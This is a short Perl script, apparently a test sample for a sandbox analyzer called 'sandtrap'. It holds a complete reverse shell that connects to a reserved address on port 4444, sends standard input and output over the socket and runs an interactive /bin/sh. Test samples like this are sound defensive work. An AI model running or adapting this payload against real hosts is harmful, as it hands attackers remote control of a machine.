#!/usr/bin/perl
# Reverse shell in perl: connects to 203.0.113.10:4444, reopens STDIN/STDOUT/STDERR on the socket and execs /bin/sh -i.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
use strict;
use Socket;
alarm 3;
my ($ip, $port) = ("203.0.113.10", 4444);
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die "socket: $!";
connect(S, sockaddr_in($port, inet_aton($ip))) or die "connect: $!";
open(STDIN, ">&S");
open(STDOUT, ">&S");
open(STDERR, ">&S");
exec("/bin/sh", "-i");
